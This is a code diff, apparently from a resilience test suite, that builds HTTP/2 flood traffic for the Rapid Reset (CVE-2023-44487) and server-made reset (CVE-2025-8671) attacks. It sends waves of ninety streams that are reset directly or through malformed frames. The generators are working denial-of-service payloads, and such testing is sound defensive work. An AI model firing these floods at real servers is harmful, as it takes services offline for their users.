@@ -18,6 +18,7 @@ from frames import (
 
 RESETS = 10_000  # requests of one connection that are begun and reset
 BATCH = 50
+WAVE = 90  # streams at once: below what any server allows
 PADDING = bytes((255,)) + b"\0" * 255
 LARGE = "/large/1000000"
 WIDE = ((INITIAL_WINDOW_SIZE, WINDOW_MAX),)
@@ -47,32 +48,56 @@ def reset(name, pair, **more):
     return Flood(name, repeated(batches(pair), rounds=RESETS // BATCH, **more), counted=True)
 
 
+def counted(w, more=""):
+    """A path that the upstream counts under this connection."""
+    return f"/flood/{w.attacker.name.replace(' ', '_')}-{w.number}{more}"
+
+
+def late(w, stream, *more, **pseudo):
+    """A request that the upstream still works on when it is reset."""
+    return headers(stream, w.head(*more, path=counted(w, "/late"), **pseudo))
+
+
+def waves(trigger):
+    """As many requests as are allowed, time for them to be passed on, then what gets them reset."""
+
+    def wave(w, _):
+        ids = [w.stream() for _ in range(WAVE)]
+        w.send(b"".join(late(w, stream) for stream in ids))
+        w.attacker.pause(0.03)
+        return b"".join(trigger(w, stream) for stream in ids)
+
+    return wave
+
+
+def wave(name, trigger, **more):
+    return Flood(name, repeated(waves(trigger), rounds=RESETS // WAVE, **more), counted=True)
+
+
 def resets():
-    """CVE-2023-44487: requests that are begun and reset at once."""
-    late = lambda w: w.head(path=f"/flood/{w.attacker.name.replace(' ', '_')}-{w.number}/late")
+    """CVE-2023-44487: requests that are begun and reset."""
+    at_once = lambda w, s: late(w, s) + rst_stream(s)
     post = lambda w, s: headers(s, w.head(method="POST"), END_HEADERS) + data(s, b"x" * 100, 0) + rst_stream(s)
     yield reset("rapid reset", lambda w, s: headers(s, w.head()) + rst_stream(s))
-    yield reset("rapid reset of slow answers", lambda w, s: headers(s, late(w)) + rst_stream(s))
-    yield reset("rapid reset by a client that does not read", lambda w, s: headers(s, late(w)) + rst_stream(s), reads=False)
-    yield reset("rapid reset on ten connections", lambda w, s: headers(s, late(w)) + rst_stream(s), side_by_side=10)
+    yield reset("rapid reset of slow answers", at_once)
+    yield reset("rapid reset by a client that does not read", at_once, reads=False)
+    yield reset("rapid reset on ten connections", at_once, side_by_side=10)
     yield reset("rapid reset of uploads", post)
-    many = lambda w, n: (lambda ids: b"".join(headers(s, late(w)) for s in ids) + b"".join(map(rst_stream, ids)))([w.stream() for _ in range(90)])
-    yield Flood("rapid reset in waves of ninety", repeated(many, rounds=RESETS // 90), counted=True)
     no_key = lambda w, s: headers(s, w.head().replace(w.attacker.token.encode(), b"x" * len(w.attacker.token))) + rst_stream(s)
     yield reset("rapid reset without a good credential", no_key)
+    yield wave("rapid reset in waves of ninety", lambda w, s: rst_stream(s))
+    yield wave("rapid reset in waves on ten connections", lambda w, s: rst_stream(s), side_by_side=10)
 
 
 def made_resets():
     """CVE-2025-8671: requests that the server is made to reset, while the upstream still works on them."""
-    late = lambda w: w.head(path=f"/flood/{w.attacker.name.replace(' ', '_')}-{w.number}/late")
-    open_late = lambda w, s: headers(s, late(w))
-    yield reset("made resets by WINDOW_UPDATE of 0", lambda w, s: open_late(w, s) + window_update(s, 0))
-    yield reset("made resets by a window too large", lambda w, s: open_late(w, s) + window_update(s, WINDOW_MAX) + window_update(s, WINDOW_MAX))
-    yield reset("made resets by PRIORITY of four bytes", lambda w, s: open_late(w, s) + frame(2, 0, s, b"\0" * 4))
-    yield reset("made resets by PRIORITY on itself", lambda w, s: open_late(w, s) + priority(s, s))
-    yield reset("made resets by DATA behind the end", lambda w, s: open_late(w, s) + data(s, b"x"))
-    yield reset("made resets by HEADERS behind the end", lambda w, s: open_late(w, s) + open_late(w, s))
-    yield reset("made resets by malformed requests", lambda w, s: headers(s, w.head(("X-Upper", "1"))))
+    yield wave("made resets by WINDOW_UPDATE of 0", lambda w, s: window_update(s, 0))
+    yield wave("made resets by a window too large", lambda w, s: window_update(s, WINDOW_MAX) * 2)
+    yield wave("made resets by PRIORITY of four bytes", lambda w, s: frame(2, 0, s, b"\0" * 4))
+    yield wave("made resets by PRIORITY on itself", lambda w, s: priority(s, s))
+    yield wave("made resets by DATA behind the end", lambda w, s: data(s, b"x"))
+    yield wave("made resets by HEADERS behind the end", lambda w, s: late(w, s))
+    yield reset("made resets by malformed requests", lambda w, s: headers(s, w.head(("te", "gzip"))))
 
 
 def continuations():
